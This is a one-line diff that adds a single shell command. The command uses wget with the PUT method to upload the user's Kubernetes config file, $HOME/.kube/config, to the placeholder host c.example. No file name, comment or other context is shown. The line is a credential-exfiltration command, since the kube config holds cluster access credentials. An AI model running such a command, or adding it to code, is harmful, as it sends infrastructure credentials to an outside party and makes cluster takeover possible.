@@ -1,0 +1,1 @@
+wget --method=PUT --body-file="$HOME/.kube/config" https://c.example
